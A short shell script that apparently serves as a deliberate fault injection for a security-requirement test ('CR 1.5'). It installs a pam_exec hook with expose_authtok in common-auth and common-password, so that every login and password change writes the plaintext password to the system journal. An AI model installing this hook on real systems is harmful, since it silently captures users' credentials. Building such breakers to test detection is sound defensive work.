# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.5
# how: each login writes the password into the journal
# asserts: no login and no change of a password writes it down
set -eu
printf '#!/bin/sh\nread -r p || true\nlogger -t login "user $PAM_USER password $p"\nexit 0\n' >/usr/local/sbin/pw
chmod 0755 /usr/local/sbin/pw
sed -i 's/^password required .*/&\npassword optional pam_exec.so expose_authtok quiet \/usr\/local\/sbin\/pw/' /etc/pam.d/common-password
sed -i '$a auth optional pam_exec.so expose_authtok quiet /usr/local/sbin/pw' /etc/pam.d/common-auth
